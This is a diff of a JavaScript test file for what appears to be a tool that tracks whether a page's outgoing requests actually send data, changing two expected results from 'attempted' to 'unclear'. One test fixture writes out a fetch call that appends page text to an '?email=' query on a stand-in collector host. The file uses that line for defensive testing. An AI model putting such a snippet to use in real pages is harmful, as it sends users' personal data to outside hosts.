@@ -57,7 +57,7 @@ const NEVER_SENT = { attempted: 0, sent: 0, blocked: 0, failed: 1, cached: 0 };
 test("what a server never took is not sent, and sets no badge", async () => {
   const url = `https://dead.collector.example:${await deadPort()}/?email=`;
   const { counts, badge, groups } = await outcome("dead", `await fetch(${JSON.stringify(url)} + text, { mode: "no-cors" })`, "dead.collector.example");
-  assert.deepEqual({ counts, badge, groups }, { counts: NEVER_SENT, badge: "", groups: ["attempted"] });
+  assert.deepEqual({ counts, badge, groups }, { counts: NEVER_SENT, badge: "", groups: ["unclear"] });
 });
 
 test("a body held back by a refused preflight is not sent, and sets no badge", async () => {
@@ -66,7 +66,7 @@ test("a body held back by a refused preflight is not sent, and sets no badge", a
   const { counts, badge, groups } = await outcome("stern", code, new URL(STERN).host);
   const arrived = stage.site.record.since(mark).filter(({ host }) => host === new URL(STERN).host);
   assert.deepEqual(arrived.map(({ method }) => method), ["OPTIONS"]);
-  assert.deepEqual({ counts, badge, groups }, { counts: NEVER_SENT, badge: "", groups: ["attempted"] });
+  assert.deepEqual({ counts, badge, groups }, { counts: NEVER_SENT, badge: "", groups: ["unclear"] });
 });
 
 test("what a server took is sent even where the page may not read the answer", async () => {
